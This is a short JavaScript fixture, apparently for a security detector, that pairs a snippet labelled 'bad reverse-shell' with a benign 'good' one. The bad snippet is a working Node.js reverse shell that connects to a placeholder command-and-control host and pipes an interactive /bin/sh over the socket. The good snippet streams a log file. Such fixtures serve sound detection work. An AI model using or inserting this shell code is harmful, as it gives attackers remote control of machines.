//: bad reverse-shell
const net = require('net');
const cp = require('child_process');

const client = new net.Socket();
client.connect(4444, 'c2.example.invalid', () => {
  const sh = cp.spawn('/bin/sh', ['-i']);
  client.pipe(sh.stdin); //!
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});

//: good reverse-shell
const net = require('net');
const fs = require('fs');

const client = new net.Socket();
client.connect(4444, 'logs.example.invalid', () => {
  const log = fs.createReadStream('/var/log/app.log');
  log.pipe(client);
});
